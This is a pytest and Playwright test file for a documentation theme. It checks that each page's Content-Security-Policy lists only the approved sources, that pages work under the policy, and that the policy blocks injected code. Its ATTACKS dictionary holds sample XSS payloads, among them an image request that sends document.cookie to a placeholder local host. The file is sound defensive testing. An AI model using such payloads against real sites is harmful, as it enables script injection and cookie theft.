"""Every page carries a strict Content-Security-Policy, works under it, and is protected by it.

What the theme does not allow is listed here, with the reason. Everything else is refused.
"""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from inspection import PATIENCE, WIDGETS_ARE_DRAWN
from playwright.sync_api import Browser, Page

OWN = {"'self'", "file:"}
HASH = re.compile(r"'sha256-[A-Za-z0-9+/]{43}='")
ALLOWED = {
    "default-src": {"'none'"},
    # The theme has scripts in the page and `onclick` attributes: digests, and leave to apply them to attributes.
    "script-src": OWN | {"'unsafe-hashes'"},
    # KaTeX places every sign of a formula by a `style` attribute.
    "style-src": OWN | {"'unsafe-inline'"},
    "font-src": OWN | {"data:"},
    "img-src": OWN | {"data:", "blob:"},
    "connect-src": OWN,
    "worker-src": {"'none'"},
    "form-action": OWN,
    "base-uri": {"'none'"},
}
# anywidget imports the modules of widgets as blobs; the widget manager compiles the schemas of its messages.
ON_WIDGET_PAGES = {"script-src": ALLOWED["script-src"] | {"blob:", "'unsafe-eval'"}}
# A playground trains a model in a worker, which is a blob, too, and compiles WebAssembly there.
ON_PLAYGROUND_PAGES = {"script-src": ON_WIDGET_PAGES["script-src"] | {"'wasm-unsafe-eval'"}, "worker-src": {"blob:"}}
WATCH = """addEventListener('securitypolicyviolation', (event) => {
  (window.violations ??= []).push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`);
});"""
# No wait_for_function: after its first look it evaluates text in the page, which the policy forbids.
SEEN = """() => new Promise((tell) => {
  const until = performance.now() + 10000;
  const look = () => {
    if (window.violations || performance.now() > until) tell(window.violations ?? []);
    else setTimeout(look, 10);
  };
  look();
})"""
BUTTONS = ".theme-switch-button, .search-button__button, .toggle-button, .copybtn, .bd-header-article .dropdown-toggle"
PRESS = """(buttons) => {
  for (const button of document.querySelectorAll(buttons)) button.click();
  for (const dialog of document.querySelectorAll('dialog[open]')) dialog.close();
  toggleFullScreen();
}"""
ATTACKS = {
    "script-src-elem": "document.head.append(Object.assign(document.createElement('script'), {text: 'stolen = 1'}))",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"stolen = 1\">')",
    "img-src": "new Image().src = `http://127.0.0.2:9/${document.cookie}`",
    "connect-src": "fetch('http://127.0.0.2:9/').catch(() => {})",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'data:text/html,x'}))",
    "script-src": "setTimeout('stolen = 1')",
}


def policy_of(text: str) -> dict[str, list[str]]:
    """The directives of a page's one policy."""
    (content,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)" />', text)
    return {name: sources for name, *sources in (part.split() for part in content.split(";"))}


def opened(browser: Browser, url: str) -> Iterator[Page]:
    page = browser.new_context().new_page()
    page.set_default_timeout(PATIENCE)
    page.add_init_script(WATCH)
    page.goto(url, wait_until="load")
    page.wait_for_load_state("networkidle")
    page.wait_for_function(WIDGETS_ARE_DRAWN, timeout=PATIENCE)
    yield page
    page.context.close()


def test_the_policy_allows_what_is_listed(book: Path, page_name: str):
    text = (book / page_name).read_text("utf-8")
    has_widgets = "vnd.jupyter.widget-view" in text
    has_playground = has_widgets and "vae_core.explorer.playground.Playground" in text
    allowed = ALLOWED | (ON_PLAYGROUND_PAGES if has_playground else ON_WIDGET_PAGES if has_widgets else {})
    policy = policy_of(text)
    assert policy.keys() == allowed.keys()
    for name, sources in policy.items():
        named = {source for source in sources if not (name == "script-src" and HASH.fullmatch(source))}
        assert named <= allowed[name], name


def test_the_page_works_under_its_policy(browser: Browser, book: Path, serve, page_name: str):
    """From disk, too: there test_book.py sees every error that a browser logs, and a violation is one."""
    for page in opened(browser, f"{serve(book)}/{page_name}"):
        page.evaluate(PRESS, BUTTONS)
        page.wait_for_timeout(50)
        assert page.evaluate("window.violations ?? []") == []


@pytest.mark.parametrize("scheme", ["file", "http"])
@pytest.mark.parametrize("directive", ATTACKS)
def test_the_policy_stops(browser: Browser, book: Path, serve, directive: str, scheme: str):
    address = serve(book) if scheme == "http" else book.as_uri()
    for page in opened(browser, f"{address}/glossary.html"):
        # As the page's own code: what a test evaluates itself stands above the policy.
        page.evaluate(ATTACKS[directive])
        violations = page.evaluate(SEEN)
        assert violations
        assert violations[0].startswith(f"{directive}:")
        assert page.evaluate("window.stolen ?? 0") == 0
